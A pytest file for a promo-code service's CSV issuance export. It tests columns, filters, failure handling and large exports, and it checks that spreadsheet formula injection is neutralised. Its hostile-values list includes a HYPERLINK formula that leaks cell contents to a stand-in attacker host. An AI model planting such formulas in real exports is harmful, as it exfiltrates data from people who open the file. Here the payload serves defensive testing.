"""Issuance export: the CSV's content, its filters, and that a failure leaves no file."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Connection, Engine, insert, select

import promomail.pools.history.export
from promomail.pools.after_sending.redemption import redeem
from promomail.pools.errors import ExportError, MailingNotFound, PoolNotFound
from promomail.pools.history.export import COLUMNS, export_issuances
from promomail.pools.issuing.claiming import claim
from promomail.pools.store.clock import utcnow
from promomail.pools.store.models import Code, Issuance
from tests.support.store_helpers import make_pool


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def store(engine: Engine) -> Engine:
    make_pool(engine, "spring", ["SP-1", "SP-2", "SP,3"])
    make_pool(engine, "summer", ["SUMMER20"], multi_use=True)
    claim(engine, "spring", "m1", ["alice", "bob"])
    claim(engine, "summer", "m2", ["alice", "bob"])
    with engine.begin() as conn:
        code_id = conn.execute(select(Code.id).where(Code.code == "SP-1")).scalar_one()
        conn.execute(
            insert(Issuance).values(
                pool_id="spring",
                code_id=code_id,
                customer_id="alice",
                mailing_id="m3",
                kind="reissue",
                slot=0,
                exclusive=False,
                issued_at=utcnow(),
            )
        )
    return engine


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An empty folder for exports (the SQLite store lives in tmp_path itself)."""
    path = tmp_path / "exports"
    path.mkdir()
    return path


def _moment(text: str) -> datetime:
    return datetime.fromisoformat(text)


def test_export_writes_the_issuance_log(store: Engine, folder: Path) -> None:
    spring = redeem(store, "SP-1", customer="friend", order="o-1")
    summer = redeem(store, "SUMMER20", customer="bob", order="o-2")
    assert spring.redeemed_at and summer.redeemed_at
    out = folder / "issuances.csv"

    assert export_issuances(store, out) == 5

    header, *rows = _read(out)
    assert tuple(header) == COLUMNS
    assert [row[1:6] for row in rows] == [
        ["spring", "SP-1", "alice", "m1", "initial"],
        ["spring", "SP-2", "bob", "m1", "initial"],
        ["summer", "SUMMER20", "alice", "m2", "initial"],
        ["summer", "SUMMER20", "bob", "m2", "initial"],
        ["spring", "SP-1", "alice", "m3", "reissue"],
    ]
    with store.connect() as conn:
        issued = [row[0] for row in conn.execute(select(Issuance.issued_at).order_by(Issuance.id))]
    assert [_moment(row[0]) for row in rows] == [t.replace(microsecond=0) for t in issued]
    spring_at = spring.redeemed_at.isoformat(timespec="seconds")
    summer_at = summer.redeemed_at.isoformat(timespec="seconds")
    # A single-use code's redemption shows on every line of it; a shared code's
    # only on the line of the customer who redeemed it.
    assert [row[6] for row in rows] == [spring_at, "", "", summer_at, spring_at]
    assert list(folder.iterdir()) == [out]


def test_export_filters(store: Engine, folder: Path) -> None:
    out = folder / "out.csv"

    assert export_issuances(store, out, pool="summer") == 2
    assert [row[3] for row in _read(out)[1:]] == ["alice", "bob"]
    assert export_issuances(store, out, mailing="m1") == 2
    assert [row[2] for row in _read(out)[1:]] == ["SP-1", "SP-2"]
    assert export_issuances(store, out, pool="summer", mailing="m1") == 0
    assert _read(out) == [list(COLUMNS)]


def test_export_refuses_unknown_filters_and_folders(store: Engine, folder: Path) -> None:
    out = folder / "out.csv"
    with pytest.raises(PoolNotFound):
        export_issuances(store, out, pool="winter")
    with pytest.raises(MailingNotFound, match="mailing 'm9' does not exist"):
        export_issuances(store, out, mailing="m9")
    with pytest.raises(ExportError, match="does not exist"):
        export_issuances(store, folder / "missing" / "out.csv")
    assert list(folder.iterdir()) == []


def test_failed_export_leaves_the_old_file(
    store: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = folder / "out.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    real = promomail.pools.history.export.write_issuances

    def fail_midway(conn: Connection, handle: Any, **filters: Any) -> int:
        real(conn, handle, **filters)
        raise RuntimeError("the database went away")

    monkeypatch.setattr(promomail.pools.history.export, "write_issuances", fail_midway)
    with pytest.raises(RuntimeError, match="went away"):
        export_issuances(store, out)

    assert out.read_text(encoding="utf-8") == "the previous export\n"
    assert list(folder.iterdir()) == [out]


def test_large_export_streams_every_row(engine: Engine, folder: Path) -> None:
    codes = [f"BULK-{i:05d}" for i in range(2500)]
    make_pool(engine, "bulk", codes)
    claim(engine, "bulk", "big", [f"c{i:05d}" for i in range(2500)])
    out = folder / "bulk.csv"

    assert export_issuances(engine, out) == 2500

    rows = _read(out)[1:]
    assert [row[2] for row in rows] == codes
    assert {row[6] for row in rows} == {""}


# -- values a spreadsheet would run -----------------------------------------------

#: Customer ids (and codes) that a spreadsheet would take as formulas, as OWASP lists them.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
    "\uff1dFULLWIDTH",
    "'quoted",
]


def _unmarked(cell: str) -> str:
    """A cell's stored value: one leading quote, when present, is the export's mark."""
    return cell[1:] if cell.startswith("'") else cell


def test_values_a_spreadsheet_would_run_are_neutralised(engine: Engine, folder: Path) -> None:
    """Before, ``=HYPERLINK(...)`` as a customer id went into the file as it was."""
    make_pool(engine, "spring", ["=CODE1", "+CODE2", "-CODE3", "@CODE4", "PLAIN5"] + [
        f"C{i}" for i in range(len(HOSTILE))
    ])  # fmt: skip
    given = claim(engine, "spring", "-mailing", [*HOSTILE, "plain", "bob", "a\r=1+1"])
    out = folder / "issuances.csv"

    assert export_issuances(engine, out) == len(HOSTILE) + 3

    header, *rows = _read(out)
    assert tuple(header) == COLUMNS
    for row in rows:
        for cell in row:
            assert not cell.startswith(promomail.pools.history.export.FORMULA_STARTS), row
    by_customer = {_unmarked(row[3]): row for row in rows}
    assert sorted(by_customer) == sorted(given)
    for customer, row in by_customer.items():
        plain = customer in ("plain", "bob", "a\r=1+1")
        assert row[3] == (customer if plain else "'" + customer)
        assert (row[1], row[4]) == ("spring", "'-mailing")
        assert _unmarked(row[2]) == given[customer]
    # The codes that look like formulas were handed out and marked too.
    marked_codes = {row[2] for row in rows if row[2].startswith("'")}
    assert marked_codes <= {"'=CODE1", "'+CODE2", "'-CODE3", "'@CODE4"} and marked_codes
    # A carriage return inside a value stays inside its quoted cell: a
    # spreadsheet does not start a row (and a cell "=1+1") there.
    assert b'"a\r=1+1"' in out.read_bytes()


@given(st.text(max_size=20))
def test_neutralising_is_reversible_and_never_starts_a_formula(value: str) -> None:
    shown = promomail.pools.history.export.spreadsheet_safe(value)
    assert not shown.startswith(promomail.pools.history.export.FORMULA_STARTS)
    assert _unmarked(shown) == value
    if not value.startswith((*promomail.pools.history.export.FORMULA_STARTS, "'")):
        assert shown == value  # everything else is left exactly as stored
